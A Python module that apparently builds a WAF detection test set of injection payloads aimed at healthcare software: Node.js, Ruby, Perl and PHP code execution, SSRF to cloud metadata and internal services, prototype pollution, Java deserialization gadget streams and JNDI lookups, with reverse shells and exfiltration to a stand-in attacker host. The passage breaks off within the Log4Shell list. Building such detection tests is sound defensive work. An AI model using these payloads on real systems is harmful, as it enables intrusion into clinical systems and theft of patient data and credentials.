"""Blind set "twohundredeighteenth": generic server-side injection (Node.js, SSRF, prototype pollution, Ruby, Perl,
PHP data: streams), Java attacks and server-side template injection aimed at healthcare and life-sciences
software, with benign requests that carry the same words innocently.

The angle: the software of hospitals, clinics, labs and insurers, recalled from memory. EHR and practice-management
web apps, patient portals and appointment booking, FHIR REST APIs (search parameters, _include, _filter,
$import/$export inputs, Subscription endpoints), HL7 v2 interface engines and their web gateways, DICOM/PACS web
viewers and WADO/DICOMweb endpoints, LIMS and sample trackers, e-prescribing and pharmacy systems, billing and
claims portals, telehealth platforms, research data warehouses and REDCap-style survey tools, medical-device
management consoles. Each payload still reaches its family's real goal against the named target (run a command,
read a secret or a configuration file, reach a cloud metadata service or an internal admin API, pollute an
object's prototype into an authorisation bypass or a gadget, load a class, render a template into code). Each
list carries a comment naming the family, the system and the target (interpreter, database, shell, browser,
template engine, product).

Families (the `sub` of each record; one per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson), class-loading,
    jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes under arbitrary parameter names, as a query string, form body, JSON body, XML body,
a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole documents (FHIR/fastjson/
Jackson JSON, XStream and XMLDecoder XML, SnakeYAML and Psych YAML) go as the request body; query-string pollution
and EJS option pairs go as raw `name=value` pairs; raw Java serialization streams (latin-1 bytes) go only where
bytes travel percent-encoded (query, form, raw body); JSP upload names go as a multipart file name carrying a JSP
shell. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of how
health-IT products are built, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import urllib.parse
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredeighteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
KVQ = ("query", "rs-query")
KVF = ("form", "rs-raw-body")
UP = ("multipart-filename", "rs-multipart-filename")
ATK = "203.0.113.50"   # the attacker's host (documentation range)


def _b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def _u16(raw: bytes) -> bytes:
    return len(raw).to_bytes(2, "big") + raw


def _desc(cls: str, suid: int, fields: Sequence[tuple[str, str, str]] = (), flags: int = 2) -> bytes:
    """TC_CLASSDESC of `cls` (name, serialVersionUID, flags, fields), closed by TC_ENDBLOCKDATA."""
    out = b"r" + _u16(cls.encode()) + suid.to_bytes(8, "big", signed=True) + bytes([flags])
    out += len(fields).to_bytes(2, "big")
    for code, name, sig in fields:
        out += code.encode() + _u16(name.encode())
        if code in "L[":
            out += b"t" + _u16(sig.encode())
    return out + b"x"


def _stream(*descs: bytes) -> bytes:
    """A Java serialization stream: magic ac ed, version 00 05, TC_OBJECT and the class descriptors (each the
    next one's holder), TC_NULL."""
    return b"\xac\xed\x00\x05s" + b"".join(descs) + b"p"


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


# the JDK and library classes the streams and gadget chains below are made of
HASHMAP = _desc("java.util.HashMap", 362498820763181265, [("F", "loadFactor", ""), ("I", "threshold", "")], 3)
AIH = _desc("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397,
            [("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;")])
PQUEUE = _desc("java.util.PriorityQueue", -7720805057305804111,
               [("I", "size", ""), ("L", "comparator", "Ljava/util/Comparator;")], 3)
BAVE = _desc("javax.management.BadAttributeValueExpException", -3105272988410493376,
             [("L", "val", "Ljava/lang/Object;")])
HASHSET = _desc("java.util.HashSet", -5024744406713321676, (), 3)
LINKEDHASHSET = _desc("java.util.LinkedHashSet", -2851667679971038690)
LAZYMAP = _desc("org.apache.commons.collections.map.LazyMap", 7990956402564206740,
                [("L", "factory", "Lorg/apache/commons/collections/Transformer;")], 3)
CHAINED = _desc("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196,
                [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")])
CONSTANT = _desc("org.apache.commons.collections.functors.ConstantTransformer", 6374440726369055124,
                 [("L", "iConstant", "Ljava/lang/Object;")])
INVOKER = _desc("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688,
                [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                 ("[", "iParamTypes", "[Ljava/lang/Class;")])
TCOMPARATOR = _desc("org.apache.commons.collections4.comparators.TransformingComparator", 3456940356043606220,
                    [("L", "decorated", "Ljava/util/Comparator;"),
                     ("L", "transformer", "Lorg/apache/commons/collections4/Transformer;")])
TEMPLATES = _desc("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707,
                  [("I", "_indentNumber", ""), ("I", "_transletIndex", ""), ("[", "_bytecodes", "[[B"),
                   ("[", "_class", "[Ljava/lang/Class;"), ("L", "_name", "Ljava/lang/String;"),
                   ("L", "_outputProperties", "Ljava/util/Properties;")])
SPRING_MITP = _desc("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                    7891306186469046131, [("I", "index", ""), ("L", "methodName", "Ljava/lang/String;"),
                                          ("L", "provider",
                                           "Lorg/springframework/core/SerializableTypeWrapper$TypeProvider;")])
SPRING_OFDIH = _desc("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                     -2476183473633612435,
                     [("L", "objectFactory", "Lorg/springframework/beans/factory/ObjectFactory;")])
CONVERTED_CLOSURE = _desc("org.codehaus.groovy.runtime.ConvertedClosure", -6478521550862563370,
                          [("L", "methodName", "Ljava/lang/String;")])
METHOD_CLOSURE = _desc("org.codehaus.groovy.runtime.MethodClosure", -7195553015693223564,
                       [("L", "method", "Ljava/lang/String;")])
C3P0_POOL = _desc("com.mchange.v2.c3p0.PoolBackedDataSource", -2440162180985815128,
                  [("L", "connectionPoolDataSource", "Ljavax/sql/ConnectionPoolDataSource;")])
C3P0_REF = _desc("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", -3569402574569785315,
                 [("L", "reference", "Ljavax/naming/Reference;")])
ROME_OBJECT = _desc("com.sun.syndication.feed.impl.ObjectBean", 1113402441446286034,
                    [("L", "_equalsBean", "Lcom/sun/syndication/feed/impl/EqualsBean;"),
                     ("L", "_toStringBean", "Lcom/sun/syndication/feed/impl/ToStringBean;")])
ROME_TOSTRING = _desc("com.sun.syndication.feed.impl.ToStringBean", 8624937659226962219,
                      [("L", "_beanClass", "Ljava/lang/Class;"), ("L", "_obj", "Ljava/lang/Object;")])
HIB_TYPED = _desc("org.hibernate.engine.spi.TypedValue", -1085244398475211098,
                  [("L", "type", "Lorg/hibernate/type/Type;"), ("L", "value", "Ljava/lang/Object;")])
HIB_GETTER = _desc("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 6146025924373004651,
                   [("L", "clazz", "Ljava/lang/Class;"), ("L", "propertyName", "Ljava/lang/String;")])
JBOSS_INVOCATION = _desc("org.jboss.invocation.MarshalledInvocation", -718723094688127810,
                         [("L", "tpc", "Ljava/lang/Object;")])

CC1 = _stream(AIH, LAZYMAP, CHAINED, CONSTANT, INVOKER)
CC5 = _stream(BAVE, LAZYMAP, CHAINED, INVOKER)
CC2 = _stream(PQUEUE, TCOMPARATOR, TEMPLATES)
CLASS_BYTES = b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x21\x0a\x00\x08\x00\x12"   # a class file's first bytes


def _pct(raw: bytes) -> str:
    return urllib.parse.quote_from_bytes(raw, safe="")


# ================================================================================================================
# generic
# ================================================================================================================
# nodejs-injection. Target: the Node.js interpreter behind Express patient portals, node FHIR facades and HL7 web
# gateways whose "filter", "rule" or "transform" field ends up in eval(), new Function() or vm.
NODE_INJECTION: list[Entry] = [
    # appointment-booking API that eval()s the clinic's slot filter expression
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "process.mainModule.require('child_process').execSync('env | grep -i fhir').toString()",
    f"global.process.mainModule.require('child_process').exec('curl -s http://{ATK}/p.sh | sh')",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return process')().env.SMART_CLIENT_SECRET",
    "eval(Buffer.from('" + _b64('require("child_process").execSync("id")') + "','base64').toString())",
    # node FHIR facade running a custom search parameter through vm.runInNewContext (sandbox escape)
    "this.constructor.constructor('return this.process')().mainModule.require('fs').readFileSync('/etc/shadow')",
    "[].constructor.constructor('return process.env')()",
    "module.constructor._load('child_process').execSync('hostname').toString()",
    # telehealth session cookie read with node-serialize.unserialize()
    f"{{\"room\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('nc {ATK} 4444 -e /bin/sh')}}()\"}}",
    "_$$ND_FUNC$$_function(){return require('fs').readdirSync('/var/lib/orthanc/db')}()",
    # HL7 web gateway whose per-channel "transform" script is saved from the admin UI
    "require('fs').appendFileSync('/root/.ssh/authorized_keys','ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK9x attacker')",
    f"require('child_process').spawn('/bin/sh',['-c','tar czf - /srv/hl7/archive | nc {ATK} 9001'])",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    f"import('child_process').then(cp=>cp.exec('wget -qO- http://{ATK}/x | sh'))",
    "require('child_process').execFileSync('psql',['-c','copy (select * from patient) to stdout']).toString()",
    f"require('http').get('http://{ATK}/?k='+encodeURIComponent(process.env.DATABASE_URL))",
    "process.dlopen(module,'/tmp/uploads/scan.node')",
    # breaking out of a string the portal concatenates into eval()
    "';return require('child_process').execSync('id').toString();//",
    "\"+require('child_process').execSync('uname -a')+\"",
    "setTimeout(\"process.mainModule.require('child_process').exec('id')\",0)",
]

# nodejs-dos. Target: the single Node.js event loop of a LIMS sample tracker and a telehealth signaling server
# (the "custom rule" and "barcode pattern" fields are evaluated or compiled server-side).
NODE_DOS: list[Entry] = [
    # block the event loop
    "while(true){}",
    "for(;;){}",
    "do{}while(1)",
    "while(!0);",
    "for(var i=0;;i++){Math.sqrt(i)}",
    # kill the worker that holds every clinician's websocket
    "process.exit(1)",
    "process.kill(process.pid,'SIGKILL')",
    "process.abort()",
    # exhaust the heap
    "Buffer.alloc(2147483647)",
    "new Array(4294967295).fill('x')",
    "'A'.repeat(536870888)",
    "new ArrayBuffer(8589934592)",
    "Array.from({length:1e9},()=>({resourceType:'Patient'}))",
    "JSON.parse('['.repeat(1e7)+']'.repeat(1e7))",
    "require('crypto').pbkdf2Sync('x','salt',1e10,64,'sha512')",
    "setInterval(()=>{global.leak=(global.leak||[]).concat(new Array(1e7).fill(0))},1)",
    # catastrophic backtracking in the sample tracker's user-supplied barcode pattern (V8 irregexp)
    "new RegExp('^(a+)+$').test('a'.repeat(48)+'!')",
    "^(([a-zA-Z0-9])+[-.]?)+@lab\\.example\\.org$",
    "(.*a){30}",
    "^(\\d+)+\\.$",
    "/^(\\w+\\s?)*$/.test('SPECIMEN '.repeat(30)+'#')",
]

# ssrf-cloud-metadata. Target: the cloud instance metadata services, reached through FHIR $import inputUrl, a
# Subscription's channel endpoint, an OHIF/DICOMweb viewer's proxied WADO URL, a patient portal's "import photo
# from URL" and an e-prescribing webhook.
SSRF_CLOUD: list[Entry] = [
    # AWS (FHIR bulk-data server on EC2 / ECS)
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/fhir-bulk-export-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.170.2/v2/credentials/5f0c2a7e-3b1d-4c8e-9a6f-2d7b1e0c4a93",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/hostname",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/info",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://instance-data/latest/meta-data/public-keys/",
    "https://fhir.example-hospital.org@169.254.169.254/latest/meta-data/",
    # GCP (Healthcare API proxies)
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=text",
    "http://169.254.169.254/computeMetadata/v1/instance/attributes/kube-env?alt=json",
    "http://metadata/computeMetadata/v1beta1/instance/service-accounts/default/token",
    # Azure (Azure Health Data Services FHIR behind a converter VM)
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://azurehealthcareapis.com",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud (OCI-hosted EHR)
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://100.100.100.200/latest/user-data",
    "http://169.254.169.254/metadata/v1.json",
    "http://[::ffff:a9fe:a9fe]/metadata/v1/user-data",
    "http://169.254.169.254/opc/v2/instance/",
]

# ssrf-internal-ip. Target: internal health-IT services behind the same proxies (Orthanc's REST API and its Lua
# execute-script, Mirth Connect's admin API, a research warehouse's Elasticsearch, device consoles, Redis, the
# HL7 MLLP listener), and local files.
SSRF_INTERNAL: list[Entry] = [
    "http://127.0.0.1:8042/tools/execute-script",
    "http://localhost:8042/patients?expand",
    "http://2130706433:8042/system",
    "http://0x7f000001:8042/modalities",
    "http://0177.0.0.1:8042/peers",
    "http://127.1:8042/instances",
    "http://0:8042/changes?limit=1000",
    "http://[::1]:8443/api/server/configuration",
    "http://[0:0:0:0:0:ffff:7f00:1]:8443/api/channels",
    "http://017700000001:8080/hapi-fhir-jpaserver/fhir/Patient?_count=1000",
    "http://localtest.me:8161/admin/queues.jsp",
    "http://127.0.0.1.nip.io:5984/_all_dbs",
    "http://10.10.4.20:9200/_cat/indices?v",
    "http://192.168.50.10/cgi-bin/pump_config.cgi",
    "http://172.17.0.1:2375/containers/json",
    "http://[::]:104/",
    "file:///etc/passwd",
    "file:///opt/mirthconnect/appdata/keystore.jks",
    "file:///C:/Windows/win.ini",
    "file://localhost/var/lib/pgsql/data/pg_hba.conf",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0A"
    "SAVE%0D%0A",
    "gopher://10.0.3.15:2575/_%0BMSH|^~\\&|ADT|HOSP|LIS|LAB|202406110830||ADT^A08|1|P|2.5%0DPID|||12345||DOE^JOHN"
    "%1C%0D",
    "dict://127.0.0.1:11211/stats",
    "dict://localhost:6379/info",
    "ldap://127.0.0.1:389/dc=hospital,dc=local?userPassword?sub",
]

# javascript-prototype-pollution. Target: Node.js patient portals and FHIR facades that deep-merge query strings
# (qs) and JSON bodies (lodash.merge, hoek) into settings objects; the goal is an authorisation flag on every
# object, or a template-engine / child_process gadget.
POLLUTION: list[Entry] = [
    ("__proto__[isAdmin]=true", *KVQ),
    ("__proto__[role]=physician&__proto__[canPrescribe]=true", *KVF),
    ("constructor[prototype][breakGlass]=true", *KVQ),
    ("appointment[__proto__][status]=booked", *KVF),
    ("filter[constructor][prototype][allowAll]=1", *KVQ),
    ("__proto__.emergencyAccess=1", *KVF),
    ("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x", *KVQ),
    ("__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id')"
     ".toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline", *KVF),
    ('{"resourceType":"Patient","__proto__":{"active":true,"isAdmin":true}}', *JB),
    ('{"constructor":{"prototype":{"scope":"user/*.write"}}}', *JB),
    ('{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\')'
     '.exec(\'id\');var __tmp2"}}', *JB),
    ('{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\')'
     '.exec(\'id\')"}}', *JB),
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
     *JB),
    ('{"__proto__":{"sourceURL":"\\u000areturn e=>{return global.process.mainModule.require(\'child_process\')'
     '.execSync(\'id\')}"}}', *JB),
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}', *JB),
    ('{"settings":{"__proto__":{"view options":{"outputFunctionName":"x;process.mainModule'
     '.require(\'child_process\').execSync(\'touch /tmp/pp\');s"}}}}', *JB),
    ('{"resourceType":"Bundle","type":"transaction","entry":[{"resource":{"__proto__":{"polluted":"yes"}}}]}', *JB),
    ('{"__proto__":{"json spaces":10}}', *JB),
    ('{"__proto__":{"status":510}}', *JB),
    ('{"constructor":{"prototype":{"allowedOrigins":["*"]}}}', *JB),
    "Object.prototype.isAdmin=true",
    "constructor.prototype.canSignOrders",
]

# ruby-injection. Target: the Ruby interpreter behind a Rails patient portal, a Sinatra HL7 gateway and a lab
# report generator (eval of a "formula" field, Kernel#open on a report file name, YAML.load of an upload).
RUBY: list[Entry] = [
    "eval(\"system('id')\")",
    "system('cat /etc/shadow')",
    f"`curl -s http://{ATK}/r.sh | bash`",
    "%x(cat config/database.yml)",
    "Kernel.open('|id').read",
    f"open('| tar czf - /var/lib/openmrs | nc {ATK} 9002')",
    f"|nc -e /bin/sh {ATK} 4444",
    "IO.popen('id').read",
    "IO.popen(['cat','config/master.key']).read",
    "exec('/bin/sh -i')",
    f"Process.spawn('bash -c \"bash -i >& /dev/tcp/{ATK}/4444 0>&1\"')",
    "require 'open3'; Open3.capture2('whoami')[0]",
    "Kernel.send(:system, 'id')",
    "Object.const_get(:Kernel).public_send(:`, 'id')",
    "instance_eval('`uname -a`')",
    "#{`id`}",
    "\"; system('ls -la /srv/portal'); \"",
    "ERB.new(\"<%= `id` %>\").result",
    f"f=TCPSocket.open('{ATK}',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
    # YAML.load of an imported lab-order file (Psych gadgets: Rails 5 ERB proxy, RubyGems universal chain)
    ("--- !ruby/object:ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\n"
     "instance: !ruby/object:ERB\n  src: \"<%= `id` %>\"\nmethod: :result\n", *YB),
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
     "? ! \"foo; system('id')\\n__END__\"\n: !ruby/struct\n  defaults: {}\n", *YB),
]

# perl-injection. Target: the Perl interpreter behind CGI LIMS screens, an old HL7 router and a device-monitoring
# console (two-argument open() on a file name, eval of a "calculation", backticks in a report script).
PERL: list[Entry] = [
    "/usr/bin/id|",
    f"|/bin/sh -c 'nc {ATK} 4444 -e /bin/sh'",
    "cat /opt/lims/etc/db.conf|",
    "; system('id');",
    "system('cat /etc/passwd')",
    "exec('/bin/sh')",
    "qx{cat /etc/passwd}",
    "qx/id/",
    "print `/usr/bin/whoami`;",
    "@{[ system('id') ]}",
    "${\\ `id`}",
    "open(my $fh, '-|', 'cat', '/opt/lims/etc/db.conf'); print <$fh>;",
    "open(F,\"|/usr/sbin/sendmail attacker\\@example.com\");print F `cat /etc/passwd`;close F;",
    f"use Socket;$i='{ATK}';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');"
    "exec('/bin/sh -i');};",
    "do '/tmp/uploads/result.pl';",
    "(?{ system('id') })",
    "s/.*/system('id')/ee",
    "die `id`",
    "eval(pack('H*','73797374656d282769642729'))",
    "use MIME::Base64;eval(decode_base64('" + _b64('system("id")') + "'))",
    "sub{system 'uname -a'}->()",
]


def _data(prefix: str, php: str) -> str:
    return prefix + _b64(php)


# php-data-scheme. Target: the PHP interpreter of REDCap, OpenEMR and LibreHealth EHR, through include() of a
# page, site or language parameter with allow_url_include on (data: wrapper as an inline script).
PHP_DATA: list[Entry] = [
    _data("data://text/plain;base64,", "<?php system($_GET['cmd']); ?>"),
    _data("data:text/plain;base64,", "<?php echo file_get_contents('/var/www/redcap/database.php'); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data:,<?=`id`?>",
    "data://text/plain;charset=utf-8,<?php passthru($_REQUEST['c']); ?>",
    _data("data://application/x-httpd-php;base64,", "<?php eval($_POST['x']); ?>"),
    _data("data://image/png;base64,", "<?php system('cat /etc/passwd'); ?>"),
    _data("DATA://text/plain;base64,", "<?php echo shell_exec('ls /var/www/openemr/sites'); ?>"),
    _data("data:;base64,", "<?php print_r(scandir('/var/www/librehealth')); ?>"),
    "data:text/html,<?php file_put_contents('sites/default/documents/s.php','<?php system($_GET[0]);');?>",
    "data://text/plain,<?= shell_exec('cat sites/default/sqlconf.php') ?>",
    "php://filter/convert.base64-decode/resource=data://plain/text," + _b64("<?php system('id');?>"),
    _data("data://text/plain;base64,", f"<?php $s=fsockopen('{ATK}',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    _data("data://text/plain;base64,", f"<?php include('http://{ATK}/s.txt'); ?>"),
    _data("data:text/x-php;base64,", "<?php echo getenv('REDCAP_SALT'); ?>"),
    _data("data://text/plain;charset=utf-8;base64,", "<?php assert($_REQUEST['a']); ?>"),
    _data("data:text/plain;charset=us-ascii;base64,", "<?php echo `cat /etc/passwd`; ?>"),
    "compress.zlib://data:;base64," + _b64("<?php system('whoami'); ?>"),
]

# ================================================================================================================
# java
# ================================================================================================================
# java-class-names. Target: the JVM scripting reached from an interface engine's transformer (Mirth Connect's Rhino
# JavaScript, Nashorn in a LIMS rule editor) and from report formulas in Java EHR modules.
JAVA_NAMES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec('cat /opt/mirthconnect/conf/mirth.properties')",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "java.lang.Class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
    "Java.type('java.lang.Runtime').getRuntime().exec('whoami')",
    f"importPackage(java.lang);Runtime.getRuntime().exec('nc {ATK} 4444 -e /bin/sh')",
    "var r=new JavaImporter(java.lang);with(r){Runtime.getRuntime().exec('id')}",
    "java.lang.System.getenv()",
    "java.lang.System.exit(0)",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass('java.lang.Runtime')",
    "new java.util.Scanner(new java.io.File('/etc/passwd')).useDelimiter('\\\\Z').next()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get('/opt/openmrs/openmrs-runtime.properties'))",
    "java.lang.Class.forName('sun.misc.Unsafe').getDeclaredField('theUnsafe')",
    "org.apache.commons.io.FileUtils.readFileToString(new java.io.File('/root/.ssh/id_rsa'))",
    f"new java.net.Socket('{ATK}',4444).getOutputStream()",
    "java.lang.reflect.Array.newInstance(java.lang.Class.forName('java.lang.String'),3)",
    "new javax.script.ScriptEngineManager().getEngineByExtension('js').eval('quit()')",
]

# java-process-spawn. Target: the JVM's process creation (Runtime.exec, ProcessBuilder, Groovy's String.execute())
# from a PACS admin console's Groovy script runner, a HAPI FHIR interceptor script and a LIMS instrument driver.
JAVA_SPAWN: list[Entry] = [
    f"Runtime.getRuntime().exec(new String[]{{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/{ATK}/4444 0>&1\"}})",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"type C:\\\\Mirth\\\\conf\\\\mirth.properties\").start()",
    "new ProcessBuilder(java.util.Arrays.asList(\"sh\",\"-c\",\"cat /etc/passwd\")).redirectErrorStream(true).start()",
    "'id'.execute().text",
    f"['bash','-c','curl {ATK}/g.sh|bash'].execute()",
    "\"cat /var/lib/dcm4chee/conf/standalone.xml\".execute().text",
    f"Runtime.getRuntime().exec(\"wget -O /tmp/a http://{ATK}/a\")",
    "new java.lang.ProcessBuilder(['/bin/sh','-c','id']).start()",
    "ProcessBuilder pb = new ProcessBuilder(\"nslookup\", \"pacs.attacker.example\"); pb.start();",
    "Runtime.getRuntime().exec(\"sh -c $@|sh . echo id\")",
    "Runtime.getRuntime().exec(\"cmd /c net user\")",
    "def p = \"whoami\".execute(); p.waitFor(); println p.in.text",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('id')})\nclass Person{}",
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\",String[].class,java.util.Map.class,"
    "String.class,ProcessBuilder.Redirect[].class,boolean.class)",
    "Runtime.getRuntime().exec(\"powershell -nop -w hidden -c IEX(New-Object Net.WebClient)"
    f".DownloadString('http://{ATK}/a.ps1')\")",
    "new ProcessBuilder(\"/bin/sh\",\"-c\",\"rm -rf /data/pacs/archive\").inheritIO().start().waitFor()",
    "java.lang.Runtime.getRuntime().exec(\"/usr/bin/curl -d @/etc/passwd http://" + ATK + "/\")",
]

# java-serialization. Target: Java deserialization endpoints of health-IT products (dcm4chee 2.x on JBoss 4's
# JMXInvokerServlet, JSF patient portals' client-side ViewState, Java RMI/HTTP remoting of a claims engine):
# the stream's magic bytes raw, hex, percent-encoded and base64.
JAVA_SERIAL: list[Entry] = [
    (_latin(_stream(HASHMAP)), "query", "rs-raw-body"),
    (_latin(_stream(AIH)), "form", "rs-query"),
    (_latin(_stream(PQUEUE)), "query", "rs-form"),
    (_latin(_stream(BAVE)), "form", "rs-raw-body"),
    (_latin(_stream(HASHSET)), "query", "rs-query"),
    (_latin(_stream(JBOSS_INVOCATION)), "form", "rs-form"),
    _stream(HASHMAP).hex(),
    _stream(BAVE).hex().upper(),
    _stream(LINKEDHASHSET).hex(),
    _b64(_stream(AIH)),
    _b64(_stream(PQUEUE)),
    _b64(_stream(HASHSET)),
    _b64(_stream(BAVE)),
    base64.urlsafe_b64encode(_stream(HASHMAP, BAVE)).decode(),
    _b64(gzip.compress(_stream(AIH), mtime=0)),
    ("javax.faces.ViewState=" + _pct(_stream(HASHMAP)), *KVF),
    ("state=" + _pct(_stream(JBOSS_INVOCATION, HASHMAP)), *KVQ),
]

# deserialization-gadgets. Target: the gadget chains a Java deserializer runs on the classpath of a health-IT
# product (commons-collections in JBoss-based PACS, spring and c3p0 in Spring EHR modules, groovy in scripting
# consoles, the JDK's own 7u21 chain, rome in feed readers, hibernate in every JPA EHR).
GADGETS: list[Entry] = [
    _b64(CC1),
    (_latin(CC1), "form", "rs-raw-body"),
    CC5.hex(),
    _b64(CC2),
    ('{"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":"HexAsciiSerializedMap:'
     + CC5.hex() + ';"}', *JB),
    (f'["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{{"jndiName":"rmi://{ATK}:1099/Exploit",'
     '"loginTimeout":0}]', *JB),
    _b64(_stream(C3P0_POOL, C3P0_REF)),
    _b64(_stream(SPRING_MITP, SPRING_OFDIH, TEMPLATES)),
    (f'["org.springframework.context.support.ClassPathXmlApplicationContext","http://{ATK}/spel.xml"]', *JB),
    (f'{{"@type":"org.springframework.transaction.jta.JtaTransactionManager",'
     f'"userTransactionName":"ldap://{ATK}:1389/claims"}}', *JB),
    _b64(_stream(AIH, CONVERTED_CLOSURE, METHOD_CLOSURE)),
    (_latin(_stream(AIH, CONVERTED_CLOSURE, METHOD_CLOSURE)), "query", "rs-form"),
    _b64(_stream(LINKEDHASHSET, TEMPLATES, AIH)),
    _stream(LINKEDHASHSET, TEMPLATES, AIH).hex(),
    _b64(_stream(HASHMAP, ROME_OBJECT, ROME_TOSTRING, TEMPLATES)),
    _b64(_stream(HASHMAP, HIB_TYPED, HIB_GETTER, TEMPLATES)),
    (_latin(_stream(HASHMAP, HIB_TYPED, HIB_GETTER)), "query", "rs-raw-body"),
]

# log4shell. Target: Log4j 2 lookups in anything Java that logs a request field (HAPI FHIR, Mirth Connect,
# dcm4chee, OpenMRS, Java claims engines): JNDI to an attacker's LDAP/RMI/DNS, nested and encoded.
LOG4SHELL: list[Entry] = [
    f"${{jndi:ldap://{ATK}:1389/fhir}}",
